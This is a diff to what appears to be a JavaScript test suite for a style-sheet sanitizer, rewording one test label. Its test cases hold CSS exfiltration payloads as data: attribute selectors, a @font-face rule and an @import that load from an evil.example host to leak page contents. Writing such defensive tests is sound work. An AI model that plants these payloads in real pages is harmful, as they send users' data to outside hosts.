@@ -66,7 +66,7 @@ describe('a style sheet may not', () => {
       'a[href^="https://portal.example.com/a"]{background:url(https://evil.example/a)}',
     ],
     ['ask for a text', '[title^="4"]{background:url(https://evil.example/4)}'],
-    ['load a font: it tells the letters that are shown', '@font-face{font-family:x;src:url(https://evil.example/4)}'],
+    ['load a font: it reveals which letters are shown', '@font-face{font-family:x;src:url(https://evil.example/4)}'],
     ['load a sheet', '@import "https://evil.example/x.css";'],
     ['load a picture over http', 'p{background:url(http://evil.example/a.png)}'],
     ['load a picture from the page', 'p{background:url(/a.png)}'],
